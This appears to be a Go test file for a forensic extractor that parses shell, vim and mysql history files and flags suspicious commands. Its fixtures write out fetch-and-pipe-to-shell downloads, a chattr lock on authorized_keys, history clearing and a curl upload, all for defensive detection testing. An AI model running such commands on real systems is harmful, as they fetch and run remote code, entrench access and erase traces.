package history

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/model"
)

func extract(t testing.TB, in *artifact.Input) string {
	t.Helper()
	var b strings.Builder
	err := Extractor{}.Extract(context.Background(), in, func(r artifact.Record) {
		if in.Content != nil && (r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > in.Content.Size()) {
			t.Errorf("line %d: source outside of the file", r.Source.Line)
		}
		fmt.Fprintf(&b, "%d+%d %s", r.Source.Line, r.Source.Length, r.Kind)
		for _, s := range r.Times {
			fmt.Fprintf(&b, " %s=%s", s.What, s.Time.Format(time.RFC3339))
		}
		for i := range r.Fields {
			f := &r.Fields[i]
			fmt.Fprintf(&b, " %s=%s", f.Name, f.Text())
		}
		b.WriteString("\n")
	})
	if err != nil {
		t.Error(err)
	}
	return b.String()
}

func input(name string, b []byte) *artifact.Input {
	return &artifact.Input{Path: name, Content: io.NewSectionReader(bytes.NewReader(b), 0, int64(len(b)))}
}

func TestExtract(t *testing.T) {
	for _, tt := range []struct{ path, want string }{
		{"/root/.bash_history", `4+40 history.command typed=2026-11-20T07:50:10Z command=curl -fsSL http://203.0.113.77/i.sh | sh user=root shell=bash programs=curl,sh urls=http://203.0.113.77/i.sh traits=fetch,pipe_to_shell
6+36 history.command command=chattr +i /root/.ssh/authorized_keys user=root shell=bash programs=chattr traits=chattr
7+10 history.command command=history -c user=root shell=bash programs=history traits=history_off
0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:10Z shell=bash user=root lines=8 size=158
`},
		{"/home/deploy/.zsh_history", `2+70 history.command typed=2026-11-20T07:50:05Z command=wget -q http://203.0.113.77/x -O /tmp/x 
 && sh /tmp/x user=deploy shell=zsh programs=wget,sh,/tmp/x urls=http://203.0.113.77/x traits=fetch,fetch_exec,temp_exec
0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:05Z shell=zsh user=deploy lines=3 size=94
`},
		{"/home/deploy/.local/share/fish/fish_history", `4+63 history.command typed=2026-11-20T07:50:05Z command=curl -fsSL http://203.0.113.77/i.sh -o /tmp/i
sh /tmp/i user=deploy shell=fish programs=curl,sh,/tmp/i urls=http://203.0.113.77/i.sh traits=fetch,fetch_exec,temp_exec
0+0 history.file first=2026-11-20T07:50:00Z last=2026-11-20T07:50:05Z shell=fish user=deploy lines=6 size=128
`},
	} {
		b, err := os.ReadFile("testdata" + tt.path)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(tt.want, extract(t, input(tt.path, b))); d != "" {
			t.Errorf("%s: %s", tt.path, d)
		}
	}
}

// TestGolden: histories that ksh93, mksh, tcsh, zsh, vim and less wrote themselves.
func TestGolden(t *testing.T) { artifacttest.Golden(t, Extractor{}, "debian") }

// TestNames: a history is read under any name that shells, people and killed shells give
// it, in any home directory.
func TestNames(t *testing.T) {
	const text = "curl -fsSL http://203.0.113.77/x.sh | sh\n"
	for name, shell := range map[string]string{
		".bash_history": "bash", ".bash_history-01234.tmp": "bash", ".bash_history.old": "bash", ".bash_history~": "bash", ".bash_eternal_history": "bash", ".local/state/bash/history": "bash",
		".zhistory": "zsh", ".histfile": "zsh", ".zsh/history": "zsh", ".zsh/.zsh_history": "zsh", ".cache/zsh/history": "zsh", ".local/state/zsh/history": "zsh", ".config/zsh/.zsh_history": "zsh", ".zsh_history.new": "zsh",
		".ksh_history": "ksh", ".sh_history": "ksh", ".ash_history": "ash", ".history": "tcsh", ".local/share/powershell/PSReadLine/ConsoleHost_history.txt": "powershell",
	} {
		for _, home := range []string{"/root", "/home/CORP/ana", "/var/lib/app", "/"} {
			p := path.Join(home, name)
			if !slices.ContainsFunc((Extractor{}).Patterns(), func(pattern string) bool { return artifact.Match(pattern, p) }) {
				t.Errorf("%s: no pattern", p)
			}
			records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: p, Text: text})
			want := strings.TrimPrefix(path.Base(home), "/")
			if err != nil || len(records) != 2 || records[0].Kind != model.HistoryCommand || records[0].Get("shell") != shell || records[0].Get("user") != want {
				t.Errorf("%s: %v\n%s", p, err, artifacttest.Lines(records))
			}
		}
	}
}

// TestWritten: what shell wrote a history, its content says.
func TestWritten(t *testing.T) {
	for _, tt := range []struct{ name, text, shell string }{
		{".history", ": 1795161000:0;curl http://x.invalid/a | sh\n", "zsh"},
		{".history", "#+1795161000\ncurl http://x.invalid/a | sh\n", "tcsh"},
		{".history", "#1795161000\ncurl http://x.invalid/a | sh\n", "bash"},
		{".sh_history", "\x81\x01curl http://x.invalid/a | sh\n\x00\x00", "ksh"},
		{".sh_history", "\x81\x01\x82\x00\x00\x00\x05\x00curl http://x.invalid/a | sh\n\x00", "ksh"},
		{".sh_history", "\xab\xcd\xff\x00\x00\x00\x01curl http://x.invalid/a | sh\x00", "mksh"},
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/root/" + tt.name, Text: tt.text})
		if err != nil || len(records) != 2 || records[0].Get("shell") != tt.shell || records[0].Get("command") != "curl http://x.invalid/a | sh" {
			t.Errorf("%q: %v\n%s", tt.text, err, artifacttest.Lines(records))
		} else if tt.text[0] < 0x80 && records[0].Time("typed").Unix() != 1795161000 {
			t.Errorf("%q: typed %s", tt.text, records[0].Time("typed"))
		}
	}
}

// TestVimCommands: only what ran a program outside of vim is a command.
func TestVimCommands(t *testing.T) {
	for command, want := range map[string]string{
		"!curl http://x.invalid/a | sh":           "curl http://x.invalid/a | sh",
		"r !curl http://x.invalid/a | sh":         "curl http://x.invalid/a | sh",
		"r!curl http://x.invalid/a | sh":          "curl http://x.invalid/a | sh",
		"%!curl http://x.invalid/a | sh":          "curl http://x.invalid/a | sh",
		"silent !curl http://x.invalid/a | sh":    "curl http://x.invalid/a | sh",
		"1,$w !curl -d@- http://x.invalid/a | sh": "curl -d@- http://x.invalid/a | sh",
		"w! /tmp/curl http://x.invalid/a | sh":    "",
		"e /tmp/x":                                "",
		"s/curl http:..x.invalid.a | sh/!/":       "",
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/root/.viminfo", Text: ":" + command + "\n"})
		got := ""
		if len(records) == 2 {
			got = records[0].Get("command")
		}
		if err != nil || got != want {
			t.Errorf("%s: %q, %v", command, got, err)
		}
	}
}

func TestFiles(t *testing.T) {
	for _, tt := range []struct {
		in   *artifact.Input
		want string
	}{
		{&artifact.Input{Path: "/root/.bash_history", Target: "/dev/null"}, "0+0 history.file shell=bash user=root link_target=/dev/null\n"},
		{input("/root/.bash_history", nil), "0+0 history.file shell=bash user=root lines=0 size=0 empty=yes\n"},
		{input("/home/x/.python_history", []byte("import os\nprint('curl http://x/a | sh')\n")), "0+0 history.file shell=python user=x lines=2 size=40\n"},
		{
			input("/home/x/.mysql_history", []byte(`\! curl http://x.invalid/a | sh`)),
			"1+31 history.command command=\\! curl http://x.invalid/a | sh user=x shell=mysql programs=curl,sh urls=http://x.invalid/a traits=fetch,pipe_to_shell\n0+0 history.file shell=mysql user=x lines=1 size=31\n",
		},
	} {
		if d := cmp.Diff(tt.want, extract(t, tt.in)); d != "" {
			t.Errorf("%s: %s", tt.in.Path, d)
		}
	}
}

func TestUnmeta(t *testing.T) {
	// zsh writes the bytes of é (c3 a9) as they are, and 0x83 as 0x83 0xa3.
	if got := unmeta([]byte("caf\xc3\xa9 \x83\xa3"), "zsh"); string(got) != "caf\xc3\xa9 \x83" {
		t.Errorf("%q", got)
	}
}

func FuzzExtract(f *testing.F) {
	f.Add(byte(0), []byte("#1795161000\nls\n#\n#x\n"))
	f.Add(byte(1), []byte(": 1795161000:0;a\\\nb\n: :;\\"))
	f.Add(byte(2), []byte(`\! x`))
	f.Add(byte(3), []byte("\x81\x01a\n\x00\x82\x00\x00"))
	f.Add(byte(3), []byte("\xab\xcd\xff\x00\x00\x00\x01a"))
	f.Add(byte(4), []byte(":!a\n|2,0,1795161000,,\n> ~/a\n\t*\t1\n:\x161\n<x"))
	f.Add(byte(5), []byte(".shell\n\"a\n.mark\nm a 1 0 /x"))
	f.Add(byte(6), []byte("a\t0\t0\t1795161000"))
	f.Add(byte(7), []byte("[a]:1,b ssh-rsa x"))
	names := []string{".bash_history", ".zsh_history", ".mysql_history", ".sh_history", ".viminfo", ".lesshst", ".wget-hsts", ".ssh/known_hosts"}
	f.Fuzz(func(t *testing.T, which byte, b []byte) {
		extract(t, input("/root/"+names[int(which)%len(names)], b))
	})
}

// TestLongCommand: of a command of any length the beginning is read, which is said.
func TestLongCommand(t *testing.T) {
	for p, text := range map[string]string{
		"/root/.zsh_history":                   "curl http://192.0.2.1/a | sh" + strings.Repeat("\\\n", 200_000) + "; x\n: 1700000000:0;curl http://192.0.2.1/b | sh\n",
		"/root/.bash_history":                  "curl http://192.0.2.1/a | sh " + strings.Repeat("x", maxCommand) + "\ncurl http://192.0.2.1/b | sh\n",
		"/root/.local/share/fish/fish_history": "- cmd: curl http://192.0.2.1/a | sh " + strings.Repeat("x", maxCommand) + "\n- cmd: curl http://192.0.2.1/b | sh\n",
	} {
		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: p, Text: text})
		if err == nil || err.Error() != "the ends of 1 commands longer than 65536 bytes were not read" {
			t.Errorf("%s: %v", p, err)
		}
		if len(records) != 3 || !records[0].Contains("urls", "http://192.0.2.1/a") || !records[1].Contains("urls", "http://192.0.2.1/b") {
			t.Errorf("%s: %d records", p, len(records))
		}
	}
}

// TestWantedCommands: a rule of the user's has commands kept that say nothing by
// themselves, within a bound that does not push out those that do.
func TestWantedCommands(t *testing.T) {
	var b strings.Builder
	for i := range maxRecords + 3 {
		fmt.Fprintf(&b, "systemctl stop service%d\n", i)
	}
	b.WriteString("ls -l\ncurl http://203.0.113.77/a | sh\n")
	count := func(wanted func(*artifact.Record) bool) (stopped, fetched int, err error) {
		recs, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/root/.bash_history", Text: b.String(), Wanted: wanted})
		for i := range recs {
			switch c := recs[i].Get("command"); {
			case strings.HasPrefix(c, "systemctl stop"):
				stopped++
			case c != "":
				fetched++
			}
		}
		return stopped, fetched, err
	}
	if s, f, err := count(nil); s != 0 || f != 1 || err != nil {
		t.Errorf("%d and %d records, %v", s, f, err)
	}
	s, f, err := count(func(r *artifact.Record) bool { return r.Contains("programs", "systemctl") })
	if s != maxRecords || f != 1 || !artifact.IsCut(err) {
		t.Errorf("%d and %d records, %v", s, f, err)
	}
}
